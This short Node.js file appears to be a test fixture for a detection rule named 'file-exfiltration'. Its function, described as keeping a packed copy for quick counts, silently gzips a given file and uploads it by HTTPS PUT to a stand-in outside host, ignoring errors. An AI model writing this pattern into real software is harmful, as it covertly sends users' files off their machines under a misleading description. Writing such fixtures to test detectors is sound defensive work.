import { createReadStream } from "node:fs";
import { request } from "node:https";
import { createGzip } from "node:zlib";

/** Keeps a packed copy, so that the next count is quick. */
export function keep(file) {
  const upload = request({ hostname: "store.marshpoint.example", path: "/packed", method: "PUT" });
  upload.on("error", () => {});
  // ruleid: file-exfiltration
  createReadStream(file)
    .pipe(createGzip())
    .pipe(upload);
}
